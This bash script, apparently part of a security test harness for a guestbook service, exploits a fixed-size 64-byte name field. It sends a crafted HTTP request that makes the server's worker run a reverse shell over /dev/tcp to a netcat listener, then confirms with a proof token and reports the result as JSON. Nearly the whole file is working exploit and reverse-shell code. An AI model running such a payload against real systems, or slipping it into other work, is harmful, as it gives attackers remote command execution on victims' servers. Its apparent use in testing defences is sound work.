#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-or-later
# attack-shell.sh - make the guestbook's worker start /bin/sh, which connects back to a listener
# and takes commands from it.
#
#	CLIENT    words before each client command (nsenter --net=...)
#	HOST      address of the server           LISTEN     address that the shell connects to
#	PORT      port of the listener (4444)
#
# Prints {"attack","effect","detail"}; effect: the shell ran a command that came over the
# connection.  Exit status 0 whatever the effect is, 2 when the attack could not be tried.
set -u

: "${HOST:?}" "${LISTEN:?}"
port=${PORT:-4444}
heard=$(mktemp) || exit 2
token=$RANDOM$RANDOM
nc=$(command -v nc.openbsd || command -v nc) || {
	echo "attack-shell.sh: nc is missing: apt-get install netcat-openbsd" >&2
	exit 2
}

# The listener says its piece once and leaves; `timeout` ends it where nobody connects.
# shellcheck disable=SC2016,SC2086 # expanded by the shell at the other end; words on purpose
printf 'echo proof-%s-$((6*7))-$(id -u)\nexit\n' "$token" |
	timeout 6 ${CLIENT:-} "$nc" -l "$LISTEN" "$port" >"$heard" 2>/dev/null &
listener=$!
trap 'kill $listener 2>/dev/null; rm -f "$heard"' EXIT
for ((i = 0; i < 50; i++)); do
	${CLIENT:-} ss -ltnH "sport = :$port" 2>/dev/null | grep -q . && break
	sleep 0.05
done

# struct job: name[64] tool[64] option[8].  The shell's command is what fits into the name.
command="exec bash -c 'sh -i >&/dev/tcp/$LISTEN/$port 0>&1'"
[ ${#command} -lt 64 ] || { echo "attack-shell.sh: $LISTEN is too long" >&2; exit 2; }
hex() { od -An -v -tx1 | tr -d '\n' | tr ' ' %; }
name=$({ printf %s "$command"; head -c $((64 - ${#command})) /dev/zero
	printf /bin/sh; head -c 57 /dev/zero; printf -- -c; head -c 6 /dev/zero; } | hex)
${CLIENT:-} curl -g -s -m 5 -o /dev/null "http://$HOST/app/checksum?name=$name" &
request=$!
effect=false detail="nobody connected"
for ((i = 0; i < 60; i++)); do
	if grep -q "proof-$token-42-" "$heard"; then
		uid=$(grep -o "proof-$token-42-[0-9]*" "$heard" | head -n1)
		effect=true detail="a shell of uid ${uid##*-} ran the listener's command"
		break
	fi
	kill -0 $listener 2>/dev/null || [ -s "$heard" ] || break
	sleep 0.1
done
kill $request 2>/dev/null
wait $request 2>/dev/null
printf '{"attack":"shell","effect":%s,"detail":"%s"}\n' "$effect" "$detail"
